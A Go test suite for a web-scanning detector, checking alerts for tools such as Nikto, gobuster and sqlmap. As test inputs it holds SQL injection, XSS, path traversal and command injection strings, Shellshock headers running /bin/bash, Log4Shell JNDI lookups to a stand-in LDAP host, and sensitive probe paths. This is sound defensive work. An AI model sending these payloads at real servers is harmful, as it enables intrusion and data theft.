package detector

import (
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"
)

const (
	webClientAddr = "198.51.100.7"
	webServerAddr = "203.0.113.80"
	firefoxUA     = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
)

// webTraffic builds request and response events of one client.
type webTraffic struct {
	evs   []Event
	t     time.Time
	src   string
	ua    string
	sport uint16
}

func newWeb(ua string) *webTraffic {
	return &webTraffic{t: t0, src: webClientAddr, ua: ua, sport: 40000}
}

// get sends a request; status > 0 adds the server's answer on the same
// connection.
func (w *webTraffic) get(target string, status uint16, extra ...string) *webTraffic {
	head := "GET " + target + " HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: " + w.ua + "\r\n" + strings.Join(extra, "") + "\r\n"
	h := &HTTP{Method: "GET", Target: target, Host: "shop.example", UserAgent: w.ua, Head: head}
	src, dst := netip.MustParseAddr(w.src), netip.MustParseAddr(webServerAddr)
	w.evs = append(w.evs, Event{Time: w.t, Src: src, Dst: dst, SrcPort: w.sport, DstPort: 80, Kind: KindOther,
		Flags: FlagACK | FlagPSH, HTTP: h})
	w.t = w.t.Add(2 * time.Millisecond)
	if status > 0 {
		w.evs = append(w.evs, Event{Time: w.t, Src: dst, Dst: src, SrcPort: 80, DstPort: w.sport, Kind: KindOther,
			Flags: FlagACK | FlagPSH, HTTP: &HTTP{Response: true, Status: status}})
		w.t = w.t.Add(2 * time.Millisecond)
	}
	return w
}

func (w *webTraffic) after(d time.Duration) *webTraffic { w.t = w.t.Add(d); return w }

func runWeb(t *testing.T, cfg Config, evs []Event) []Alert {
	t.Helper()
	var live []Alert
	cfg.OnAlert = func(a Alert) { live = append(live, a) }
	d := NewDefault(cfg)
	for i := range evs {
		d.Observe(&evs[i])
	}
	return append(live, d.Flush()...)
}

func finals(as []Alert) []Alert {
	var out []Alert
	for _, a := range as {
		if a.Status == StatusFinal {
			out = append(out, a)
		}
	}
	return out
}

// wordlist is a dirb-like list of words, none of them on the probe list.
func wordlist(n int) []string {
	out := make([]string, n)
	for i := range out {
		out[i] = fmt.Sprintf("/word%c%c%d", 'a'+i%26, 'a'+i/26%26, i/676)
	}
	return out
}

func TestWebRules(t *testing.T) {
	cases := []struct {
		name    string
		build   func() *webTraffic
		label   string // "" for quiet
		signals []string
		tool    string
	}{
		{"scanner user agent names the tool", func() *webTraffic {
			return newWeb("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)").get("/", 200)
		}, LabelVulnScan, []string{"user_agent:nikto"}, "nikto"},
		{"wordlist tool by user agent", func() *webTraffic {
			return newWeb("gobuster/3.5").get("/admin", 404).get("/backup", 404)
		}, LabelWordlistScan, []string{"user_agent:gobuster"}, "gobuster"},
		{"wordlist from requests alone (live, no responses)", func() *webTraffic {
			w := newWeb("Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)")
			for _, p := range wordlist(150) {
				w.get(p, 0)
			}
			return w
		}, LabelWordlistScan, []string{"distinct_paths"}, ""},
		{"failed paths where responses are seen", func() *webTraffic {
			w := newWeb(firefoxUA)
			for _, p := range wordlist(12) {
				w.get(p, 404)
			}
			return w
		}, LabelWordlistScan, []string{"failed_paths"}, ""},
		{"browser page with sixty assets, favicon and robots 404", func() *webTraffic {
			w := newWeb(firefoxUA).get("/", 200).get("/gallery.html", 200)
			for i := 0; i < 60; i++ {
				ext := []string{"css", "js", "png", "jpg", "svg", "woff2"}[i%6]
				w.get(fmt.Sprintf("/assets/a%d.%s", i, ext), 200, "Referer: http://shop.example/gallery.html\r\n")
			}
			return w.get("/favicon.ico", 404).get("/robots.txt", 404)
		}, "", nil, ""},
		{"API client walking ids", func() *webTraffic {
			w := newWeb("python-requests/2.31")
			for i := 0; i < 500; i++ {
				w.get(fmt.Sprintf("/api/items/%d", i), 200).get(fmt.Sprintf("/api/orders/%08x-aaaa/lines", i*7919), 200)
			}
			return w
		}, "", nil, ""},
		{"injections behind a browser user agent (wapiti, sqlmap --random-agent)", func() *webTraffic {
			w := newWeb(firefoxUA)
			for _, q := range []string{"1' AND 1=1--", "1 UNION ALL SELECT NULL,NULL--", "<script>alert(1)</script>", "../../../../etc/passwd", "1;id"} {
				w.get("/item?id="+strings.ReplaceAll(q, " ", "%20"), 200)
			}
			return w
		}, LabelVulnScan, []string{"injection"}, ""},
		{"one search that looks like a payload", func() *webTraffic {
			return newWeb(firefoxUA).get("/search?q=%3Cscript%3E+tag+tutorial", 200).get("/", 200)
		}, "", nil, ""},
		{"probe paths", func() *webTraffic {
			w := newWeb("curl/7.88.1")
			for _, p := range []string{"/.git/HEAD", "/.env", "/phpinfo.php", "/server-status", "/wp-config.php.bak", "/.htpasswd"} {
				w.get(p, 404)
			}
			return w
		}, LabelVulnScan, []string{"probe_paths"}, ""},
		{"log4shell and shellshock in headers", func() *webTraffic {
			w := newWeb(firefoxUA)
			w.get("/a", 200, "X-Api-Version: ${jndi:ldap://192.0.2.1/a}\r\n")
			w.get("/b", 200, "Referer: () { :; }; /bin/bash -c id\r\n")
			return w.get("/c", 200, "X-Forwarded-For: ${${lower:j}ndi:dns://x}\r\n")
		}, LabelVulnScan, []string{"injection"}, ""},
		{"many paths, most on the probe list (a Nikto without its name)", func() *webTraffic {
			w := newWeb(firefoxUA)
			for i := 0; i < 120; i++ {
				w.get(fmt.Sprintf("/cgi-bin/test%d.cgi", i), 0)
			}
			return w
		}, LabelVulnScan, []string{"probe_paths", "distinct_paths"}, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := finals(runWeb(t, Config{}, c.build().evs))
			if c.label == "" {
				if len(got) != 0 {
					t.Fatalf("want no alert, got %+v %+v", got[0], got[0].HTTP)
				}
				return
			}
			if len(got) != 1 {
				t.Fatalf("want one final alert, got %d: %+v", len(got), got)
			}
			a := got[0]
			if a.Label != c.label || a.Tool != c.tool || a.Source.String() != webClientAddr || a.ScanType != "http" {
				t.Fatalf("got label %q tool %q source %s scan_type %q, want %q %q", a.Label, a.Tool, a.Source, a.ScanType, c.label, c.tool)
			}
			if !slices.Equal(a.HTTP.Signals, c.signals) {
				t.Errorf("signals %v, want %v", a.HTTP.Signals, c.signals)
			}
			if a.DestHost == nil || a.DestHost.String() != webServerAddr || !slices.Equal(a.DestPorts, []uint16{80}) {
				t.Errorf("destination %v %v", a.DestHost, a.DestPorts)
			}
			if len(a.HTTP.SamplePaths) == 0 || len(a.HTTP.UserAgents) != 1 || !slices.Equal(a.HTTP.Hosts, []string{"shop.example"}) {
				t.Errorf("evidence %+v", a.HTTP)
			}
		})
	}
}

func TestWebEpisodeEscalatesUnderOneID(t *testing.T) {
	w := newWeb(firefoxUA)
	for _, p := range wordlist(12) {
		w.get(p, 404)
	}
	for i := 0; i < 3; i++ {
		w.get(fmt.Sprintf("/item?id=%d%%27%%20OR%%201=1--", i), 200)
	}
	all := runWeb(t, Config{}, w.evs)
	var statuses []string
	for _, a := range all {
		statuses = append(statuses, a.Status+" "+a.Label)
		if a.AlertID != all[0].AlertID {
			t.Fatalf("alert ids differ: %v", all)
		}
	}
	want := []string{"new " + LabelWordlistScan, "escalated " + LabelVulnScan, "final " + LabelVulnScan}
	if !slices.Equal(statuses, want) {
		t.Fatalf("records %v, want %v", statuses, want)
	}
	f := all[2].HTTP
	if f.Requests != 15 || f.FailedPaths != 12 || f.InjectionRequests != 3 || f.Status["404"] != 12 || f.Status["200"] != 3 {
		t.Fatalf("final evidence %+v", f)
	}
}

func TestWebQuietWindowClosesEpisode(t *testing.T) {
	w := newWeb("sqlmap/1.7.2#stable (https://sqlmap.org)").get("/item?id=1", 200)
	w.after(20*time.Minute).get("/item?id=2", 200)
	all := runWeb(t, Config{}, w.evs)
	if len(finals(all)) != 2 || all[0].AlertID == all[len(all)-1].AlertID {
		t.Fatalf("a scan 20 minutes after the last should be a second episode: %+v", all)
	}
}

func TestWebRespectsAllowlistAndIgnore(t *testing.T) {
	evs := newWeb("Nikto/2.5").get("/", 404).evs
	var suppressed int
	got := runWeb(t, Config{Allow: PrefixSet{netip.MustParsePrefix("198.51.100.0/24")}, OnSuppressed: func(Alert) { suppressed++ }}, evs)
	if len(got) != 0 || suppressed == 0 {
		t.Fatalf("allowlisted: %d alerts, %d suppressed", len(got), suppressed)
	}
	if got := runWeb(t, Config{Ignore: PrefixSet{netip.MustParsePrefix("198.51.100.0/24")}}, evs); len(got) != 0 {
		t.Fatalf("ignored source alerted: %+v", got)
	}
}

func TestSeedRuleIgnoresHTTP(t *testing.T) {
	w := newWeb("Nikto/2.5")
	for _, p := range wordlist(300) {
		w.get(p, 404)
	}
	for _, name := range RuleSets {
		if name == "default" {
			continue
		}
		r, err := New(name, Config{})
		if err != nil {
			t.Fatal(err)
		}
		for i := range w.evs {
			r.Observe(&w.evs[i])
		}
		if got := r.Flush(); len(got) != 0 {
			t.Fatalf("%s rule alerted on HTTP: %+v", name, got)
		}
	}
}

func TestWebStateBounded(t *testing.T) {
	d := NewDefault(Config{})
	ev := Event{Time: t0, Src: netip.MustParseAddr(webClientAddr), Dst: netip.MustParseAddr(webServerAddr), DstPort: 80,
		Kind: KindOther, Flags: FlagACK | FlagPSH}
	for i := 0; i < 50_000; i++ {
		ev.HTTP = &HTTP{Method: "GET", Target: fmt.Sprintf("/w%d", i), UserAgent: "x"}
		ev.SrcPort = uint16(1024 + i%60000)
		d.Observe(&ev)
	}
	c := d.web.clients[ev.Src]
	if c.paths.len() > maxWebKeys || len(c.conns) > maxWebConns || !c.over {
		t.Fatalf("one client: %d paths, %d conns, over %v", c.paths.len(), len(c.conns), c.over)
	}
	for i := 0; i < maxWebClients+5000; i++ {
		ev.Src = netip.AddrFrom4([4]byte{198, 51, byte(i >> 8), byte(i)})
		if i >= 65536 {
			ev.Src = netip.AddrFrom4([4]byte{192, 0, byte(i >> 8), byte(i)})
		}
		ev.HTTP = &HTTP{Method: "GET", Target: "/"}
		d.Observe(&ev)
	}
	if n := len(d.web.clients); n > maxWebClients {
		t.Fatalf("%d web clients held, cap %d", n, maxWebClients)
	}
	if d.web.entries < 0 || d.web.entries > maxWebEntries {
		t.Fatalf("entries %d", d.web.entries)
	}
}

func TestWebListsExtend(t *testing.T) {
	dir := t.TempDir()
	write := func(name, body string) {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write(UserAgentList, "# ours\nT1595.002 acme-audit AcmeAudit/ # our audit tool\n")
	write(ProbePathList, "internal /internal/debug*\n")
	l, err := LoadWebLists(dir)
	if err != nil {
		t.Fatal(err)
	}
	if a, ok := l.agent("AcmeAudit/1.0"); !ok || a.tool != "acme-audit" {
		t.Fatalf("user list not read: %+v %v", a, ok)
	}
	if l.probePath("/internal/debug/vars") != "internal" || l.probePath("/.git/config") != "vcs" {
		t.Fatal("probe list not extended")
	}
	got := finals(runWeb(t, Config{WebLists: l}, newWeb("AcmeAudit/1.0").get("/", 200).evs))
	if len(got) != 1 || got[0].Tool != "acme-audit" {
		t.Fatalf("extended list: %+v", got)
	}

	for _, c := range []struct{ file, body, want string }{
		{UserAgentList, "T1595 nikto Nikto\n", `technique "T1595"`},
		{InjectionList, "sqli (unclosed\n", "injections.txt line 1: class sqli"},
		{ProbePathList, "x relative/path\n", "begin it with '/'"},
		{ProbePathList, "x relative/prefix*\n", "begin it with '/'"},
		{"user_agents.txt", "T1595.002 a b\n", "user_agents.txt, which is not a list scanwatch reads"},
		{"README", "notes\n", "holds none of"},
	} {
		bad := t.TempDir()
		if err := os.WriteFile(filepath.Join(bad, c.file), []byte(c.body), 0o644); err != nil {
			t.Fatal(err)
		}
		if _, err := LoadWebLists(bad); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s %q: error %v, want it to say %q", c.file, c.body, err, c.want)
		}
	}
	if _, err := LoadWebLists(filepath.Join(dir, UserAgentList)); err == nil || !strings.Contains(err.Error(), "not a directory") {
		t.Errorf("a file as the directory: %v", err)
	}
	fifoDir := t.TempDir()
	if err := syscall.Mkfifo(filepath.Join(fifoDir, InjectionList), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := LoadWebLists(fifoDir); err == nil || !strings.Contains(err.Error(), "a FIFO") {
		t.Errorf("a FIFO in the directory: %v", err)
	}
}

func TestBuiltinWebListsMatch(t *testing.T) {
	l := DefaultWebLists()
	for _, c := range []struct {
		target, head string
		want         []string
	}{
		{"/item?id=1%27%20AND%203871%3D3871%20AND%20%27a%27%3D%27a", "", []string{"sqli"}},
		{"/item?id=-1+UNION+ALL+SELECT+NULL%2CCONCAT%280x71%29--+-", "", []string{"sqli"}},
		{"/item?id=1%3BSELECT%20PG_SLEEP%285%29--", "", []string{"sqli"}},
		{"/search?q=%22%3E%3Csvg%2Fonload%3Dalert%281%29%3E", "", []string{"xss"}},
		{"/download?file=..%2F..%2F..%2Fetc%2Fpasswd", "", []string{"traversal"}},
		{"/download?file=%252e%252e%252fetc%252fpasswd", "", []string{"traversal"}},
		{"/ping?host=127.0.0.1%3Bcat%20/etc/hosts", "", []string{"traversal", "cmdi"}},
		{"/", "GET / HTTP/1.1\r\nUser-Agent: () { :; }; echo; /bin/id\r\n", []string{"shellshock"}}, // headers: shellshock, log4shell only
		{"/", "GET / HTTP/1.1\r\nCookie: a=1; id=42\r\nX-Q: ' OR 1=1--\r\n", nil},
		{"/", "GET / HTTP/1.1\r\nX-Api-Version: ${jndi:ldap://x/a}\r\n", []string{"log4shell"}},
		{"/page?include=php://filter/convert.base64-encode/resource=index", "", []string{"inclusion"}},
		{"/search?q=red+shoes&page=2", "", nil},
		{"/blog/2024/05/how-to-select-a-database", "", nil},
		{"/a;jsessionid=0123ABC", "", nil},
		{"/static/app.js?v=1.2.3", "", nil},
	} {
		h := &HTTP{Method: "GET", Target: c.target, Head: c.head}
		if h.Head == "" {
			h.Head = "GET " + c.target + " HTTP/1.1\r\nHost: x\r\n"
		}
		if got := l.inspect(h, nil, nil).injected; !slices.Equal(got, c.want) {
			t.Errorf("%s %q: classes %v, want %v", c.target, c.head, got, c.want)
		}
	}
	for path, want := range map[string]string{"/.git/HEAD": "vcs", "/index.php.bak": "backup", "/phpmyadmin/": "admin",
		"/robots.txt": "", "/favicon.ico": "", "/.well-known/acme-challenge/x": "", "/wp-login.php": "cms", "/actuator/env": "cve"} {
		if got := l.probePath(strings.ToLower(path)); got != want {
			t.Errorf("probe %s: %q, want %q", path, got, want)
		}
	}
}

// BenchmarkWebInspect is one request through the lists: a browser's
// ordinary request, and a scanner's injection.
func BenchmarkWebInspect(b *testing.B) {
	l := DefaultWebLists()
	head := "GET /products/shoes?color=red&size=42 HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: " + firefoxUA +
		"\r\nAccept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.5\r\nAccept-Encoding: gzip, deflate, br\r\nConnection: keep-alive\r\nUpgrade-Insecure-Requests: 1\r\n\r\n"
	for _, c := range []struct{ name, target string }{
		{"benign", "/products/shoes?color=red&size=42"},
		{"sqli", "/item?id=1%27%20AND%203871%3D3871%20AND%20%27a%27%3D%27a"},
	} {
		h := &HTTP{Method: "GET", Target: c.target, UserAgent: firefoxUA, Head: head}
		b.Run(c.name+"/first", func(b *testing.B) {
			var scratch []string
			for b.Loop() {
				l.inspect(h, scratch, nil)
				l.agent(h.UserAgent)
			}
		})
		b.Run(c.name, func(b *testing.B) {
			var scratch []string
			var memo headerMemo
			for b.Loop() {
				l.inspect(h, scratch, &memo)
				l.agent(h.UserAgent)
			}
		})
	}
}

func TestWebListsSwapAppliesToKnownClients(t *testing.T) {
	d := NewDefault(Config{})
	w := newWeb("AcmeAudit/1.0").get("/", 200)
	d.Observe(&w.evs[0])
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, UserAgentList), []byte("T1595.002 acme AcmeAudit\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	l, err := LoadWebLists(dir)
	if err != nil {
		t.Fatal(err)
	}
	d.SetWebLists(l)
	w.get("/again", 200)
	for i := range w.evs[1:] {
		d.Observe(&w.evs[1+i])
	}
	if got := d.Flush(); len(got) != 1 || got[0].Tool != "acme" {
		t.Fatalf("after SIGHUP the same client and User-Agent: %+v", got)
	}
}

// TestWebSkippedCounts: the live sensor's skipped counts (on the next
// copied head, or in a count-only record once the client is quiet) add to
// the requests; a count-only record adds no path and opens no client.
func TestWebSkippedCounts(t *testing.T) {
	w := newWeb("gobuster/3.5").get("/a", 0)
	w.evs[0].HTTP.Skipped = 40
	w.get("/b", 0)
	// As the live sensor's sweep makes it: no destination, no flags.
	tail := Event{Time: w.t, Src: w.evs[1].Src, Kind: KindOther, HTTP: &HTTP{Skipped: 7}}
	w.evs = append(w.evs, tail)
	stranger := tail
	stranger.Src = netip.MustParseAddr("192.0.2.99")
	w.evs = append(w.evs, stranger)
	all := runWeb(t, Config{}, w.evs)
	got := finals(all)
	if len(got) != 1 || got[0].HTTP.Requests != 49 || got[0].HTTP.DistinctPaths != 2 || got[0].TotalConns != 49 {
		t.Fatalf("want one alert with 1+40+1+7 requests and 2 paths: %+v", got)
	}
	d := NewDefault(Config{})
	d.Observe(&stranger)
	d.Observe(&tail)
	if prob, promoted := d.Held(); prob+promoted != 0 {
		t.Errorf("a count-only record was taken for a probe (flags 0: a NULL scan): %d sources held", prob+promoted)
	}
}

// TestWebClientMemory: a full table of clients, each with the most a
// client keeps besides its keys (4 User-Agents, 4 Hosts, 10 samples, all
// at the length cap, from heads of 512 bytes, on 10 connections) stays
// within 8 KB a client (7.3 KB measured):
// no kept field holds its head alive.
func TestWebClientMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("fills 65,536 clients")
	}
	const clients = maxWebClients
	long := strings.Repeat("x", 400)
	d := NewDefault(Config{})
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	ev := Event{Time: t0, Dst: netip.MustParseAddr(webServerAddr), DstPort: 80, Kind: KindOther, Flags: FlagACK | FlagPSH}
	for i := 0; i < clients; i++ {
		ev.Src = netip.AddrFrom4([4]byte{198, 18 + byte(i>>16), byte(i >> 8), byte(i)})
		for j := 0; j < 10; j++ {
			ua, host, target := fmt.Sprintf("UA%d%s", j%4, long), fmt.Sprintf("h%d%s", j%4, long), fmt.Sprintf("/p%d%s", j, long)
			head := "GET " + target + " HTTP/1.1\r\nHost: " + host + "\r\nUser-Agent: " + ua + "\r\n"
			head = (head + strings.Repeat(" ", 512))[:512]
			ev.SrcPort = uint16(1024 + j)
			ev.HTTP = &HTTP{Method: "GET", Target: head[4 : 4+len(target)], Host: host, UserAgent: ua, Head: head}
			d.Observe(&ev)
		}
	}
	runtime.GC()
	runtime.ReadMemStats(&after)
	per := float64(after.HeapAlloc-before.HeapAlloc) / clients
	t.Logf("%d web clients: %.0f bytes each", len(d.web.clients), per)
	if len(d.web.clients) != clients || per > 8<<10 {
		t.Fatalf("%d clients, %.0f bytes each: want %d within 8 KB each", len(d.web.clients), per, clients)
	}
	runtime.KeepAlive(d)
}

// TestWebReviewFindings: a Log4Shell header is evidence for the window it
// falls in, not for as long as the client stays; a twice-encoded payload
// in the path is found as in the query; a (?i) match through a non-ASCII
// letter (ſ folds to s) is not lost to the prefilter.
func TestWebReviewFindings(t *testing.T) {
	w := newWeb(firefoxUA)
	w.get("/", 200, "X-Api-Version: ${jndi:ldap://192.0.2.1/a}\r\n")
	for i := 0; i < 40; i++ {
		w.after(30*time.Second).get("/index.html", 200)
	}
	all := runWeb(t, Config{}, w.evs)
	if f := finals(all); len(f) != 1 || f[0].LastSeen.Sub(f[0].FirstSeen) > 25*time.Minute ||
		f[0].Timestamp.Sub(w.evs[0].Time) > 10*time.Minute {
		t.Errorf("one Log4Shell request held the episode open for the client's whole stay: %+v", f)
	}
	l := DefaultWebLists()
	for target, want := range map[string]string{
		"/x/%253Cscript%253Ealert(1)%253C/script%253E": "xss",
		"/i?id=1+union+%C5%BFelect+1":                  "sqli",
	} {
		h := &HTTP{Method: "GET", Target: target, Head: "GET " + target + " HTTP/1.1\r\n"}
		if got := l.inspect(h, nil, nil).injected; !slices.Contains(got, want) {
			t.Errorf("%s: classes %v, want %s", target, got, want)
		}
	}
}
